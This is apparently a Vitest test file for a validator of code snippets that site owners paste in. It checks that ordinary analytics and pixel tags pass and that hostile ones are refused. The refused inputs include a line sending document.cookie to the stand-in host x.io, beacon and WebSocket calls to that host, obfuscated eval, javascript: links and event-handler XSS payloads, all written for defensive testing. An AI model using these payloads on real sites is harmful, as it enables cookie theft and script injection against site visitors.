import { describe, expect, it } from "vitest";
import type { CodeType } from "#database/vocabularies.ts";
import { readSnippet } from "./read-snippet.ts";

const problemOf = (type: CodeType, content: string): string | null => {
  const read = readSnippet(type, content);
  return read.ok ? null : read.problem;
};
const partsOf = (type: CodeType, content: string) => {
  const read = readSnippet(type, content);
  if (!read.ok) throw new Error(read.problem);
  return read.snippet;
};

const tag = `<!-- Google tag (gtag.js) -->
<script async src="https://www.googletagmanager.com/gtag/js?id=G-ABC1234567"></script>
<script>
  window.dataLayer = window.dataLayer || [];
  function gtag(){dataLayer.push(arguments);}
  gtag('js', new Date());
  gtag('config', 'G-ABC1234567');
</script>`;

const pixel = `!function(w,d,s){if(w.px)return;var q=w.px=function(){q.call?q.call.apply(q,arguments):q.list.push(arguments)};
q.list=[];s=d.createElement("script");s.async=!0;s.src="https://connect.facebook.net/en_US/fbevents.js";
d.head.append(s)}(window,document);px("init","1234567890");`;

describe("a snippet that owners really paste", () => {
  it("of a measurement service becomes a file and a script, and names its host", () => {
    expect(partsOf("analytics", tag)).toMatchObject({
      parts: [
        {
          kind: "script-file",
          src: "https://www.googletagmanager.com/gtag/js?id=G-ABC1234567",
          attributes: { async: "" },
        },
        { kind: "script" },
      ],
      hosts: ["www.googletagmanager.com"],
    });
  });

  it("of an advertising pixel is allowed, with or without its tag", () => {
    expect(partsOf("conversion_tracking", pixel).hosts).toEqual(["connect.facebook.net"]);
    const withTag = `<script>${pixel}</script><noscript><img src="https://www.facebook.com/tr?id=1"></noscript>`;
    expect(partsOf("conversion_tracking", withTag).parts).toHaveLength(1);
  });

  it("of structured data is written so that it cannot end its tag", () => {
    const block = `{"@context":"https://schema.org","@type":"Service","name":"</script><b>"}`;
    const [part] = partsOf("schema_markup", block).parts;
    expect(part?.kind === "json" && part.text).not.toContain("<");
    expect(JSON.parse(part?.kind === "json" ? part.text : "")).toMatchObject({
      name: "</script><b>",
    });
  });

  it.each<[CodeType, string]>([
    ["meta_tags", `<meta name="google-site-verification" content="abc_123">`],
    ["meta_tags", `<link rel="me" href="https://social.example/@us">`],
    ["css", ".banner { color: red; background: url(https://cdn.example.com/a.png) }"],
    ["css", "<style>h2 { letter-spacing: 0 }</style>"],
    ["html", `<div class="note"><p>Call <a href="tel:+17575550100">us</a></p></div>`],
    ["header_script", "if (a < b) console.log('less')"],
    ["analytics", "fetch('https://analytics.example.com/hit')"],
    ["body_script", "fetch('https://services.leadconnectorhq.com/x')"],
  ])("of the type %s is allowed: %s", (type, content) => {
    expect(problemOf(type, content)).toBeNull();
  });
});

describe("a hostile snippet", () => {
  it.each<[string, CodeType, string]>([
    ["eval", "header_script", "eval('1')"],
    ["an alias of eval", "header_script", "const e = eval; e('1')"],
    ["Function", "header_script", "new Function('return 1')()"],
    ["the constructor of a function", "header_script", "(()=>{}).constructor('x')()"],
    ["computed window members", "header_script", "window['ev'+'al']('1')"],
    ["computed document members", "header_script", "document['coo'+'kie']"],
    ["escaped names", "header_script", "document.c\\u006fokie"],
    ["cookies", "analytics", "new Image().src='//x.io/'+document.cookie"],
    ["the cookie store", "analytics", "cookieStore.getAll()"],
    ["localStorage", "analytics", "localStorage.token"],
    ["sessionStorage", "analytics", "sessionStorage.getItem('a')"],
    ["indexedDB", "analytics", "indexedDB.open('a')"],
    ["XMLHttpRequest", "analytics", "new XMLHttpRequest()"],
    ["a request to an unnamed service", "body_script", "fetch('/admin/forms.data')"],
    ["a beacon to an unnamed service", "body_script", "navigator.sendBeacon('https://x.io', 'a')"],
    ["WebSocket", "body_script", "new WebSocket('wss://x.io')"],
    ["EventSource", "body_script", "new EventSource('/admin/live')"],
    ["a worker", "body_script", "new Worker('x.js')"],
    ["a service worker", "body_script", "navigator.serviceWorker.register('x.js')"],
    ["dynamic import", "body_script", "import('https://x.io/a.js')"],
    ["document.write", "body_script", "document.write('<b>')"],
    ["innerHTML", "body_script", "document.body.innerHTML = '<img>'"],
    ["insertAdjacentHTML", "body_script", "b.insertAdjacentHTML('x','y')"],
    ["srcdoc", "body_script", "f.srcdoc='<b>'"],
    ["a javascript: address", "body_script", "location = 'javascript:alert(1)'"],
    ["a timer with a text", "body_script", "setTimeout('alert(1)')"],
    ["coded text", "body_script", "String.fromCharCode(97)"],
    ["base64", "body_script", "atob('YQ==')"],
    ["the end of its tag", "body_script", "'</script><img>'"],
    ["the opener", "body_script", "opener.location = 'https://x.io'"],
    ["a script without TLS", "body_script", "<script src='http://x.io/a.js'></script>"],
    ["a script of this site", "body_script", "<script src='/media/upload.js'></script>"],
    ["a data: script", "body_script", "<script src='data:text/javascript,alert(1)'></script>"],
    [
      "an event handler on a script",
      "body_script",
      "<script src='https://x.io/a.js' onload='x()'></script>",
    ],
    [
      "other tags beside the script",
      "body_script",
      "<script>a()</script><iframe src='https://x.io'></iframe>",
    ],
    ["an import map", "body_script", "<script type='importmap'>{}</script>"],
    ["a script in styles", "css", "a{background:url(javascript:alert(1))}"],
    ["an expression in styles", "css", "a{width:expression(alert(1))}"],
    ["an import in styles", "css", "@import 'https://x.io/a.css'"],
    ["the end of the style tag", "css", "a{}</style><script>alert(1)</script>"],
    ["a binding in styles", "css", "a{-moz-binding:url(x)}"],
    ["a refresh", "meta_tags", `<meta http-equiv="refresh" content="0;url=https://x.io">`],
    ["a policy", "meta_tags", `<meta http-equiv="content-security-policy" content="x">`],
    ["a style sheet link", "meta_tags", `<link rel="stylesheet" href="https://x.io/a.css">`],
    ["a base address", "meta_tags", `<base href="https://x.io">`],
    ["a script beside meta tags", "meta_tags", `<meta name="a" content="b"><script>a()</script>`],
    ["a script in HTML", "html", "<p><script>alert(1)</script></p>"],
    ["an event handler", "html", "<img src='/x.png' onerror='alert(1)'>"],
    ["a javascript: link", "html", "<a href='javascript:alert(1)'>x</a>"],
    ["a disguised javascript: link", "html", "<a href=' java&#115;cript:alert(1)'>x</a>"],
    ["a form", "html", "<form action='https://x.io'><p>a</p></form>"],
    ["a frame", "html", "<iframe src='https://x.io'></iframe>"],
    ["a vector picture", "html", "<svg onload='alert(1)'></svg>"],
    ["a style attribute", "html", "<div style='position:fixed'>x</div>"],
    ["data that is no JSON", "schema_markup", "{alert(1)}"],
    ["data without a context", "schema_markup", `{"@type":"Service"}`],
    ["data without a type", "schema_markup", `{"@context":"https://schema.org"}`],
  ])("with %s is refused in words", (_name, type, content) => {
    const problem = problemOf(type, content);
    expect(problem).toMatch(/\.$|"$/);
  });

  it("of any size and shape is answered quickly", () => {
    const shapes = ["<", "<a", "<script", "</", "(", "\\u", "//a.", "{", "[", "@", "a:", "'", "-"];
    const types: CodeType[] = ["header_script", "css", "meta_tags", "html", "schema_markup"];
    for (const type of types)
      for (const shape of shapes) {
        const content = shape.repeat(Math.floor(50_000 / shape.length));
        const begun = performance.now();
        readSnippet(type, content);
        expect(performance.now() - begun, `${type} ${shape}`).toBeLessThan(500);
      }
    expect(problemOf("css", "a".repeat(50_001))).toContain("50,000");
  });
});
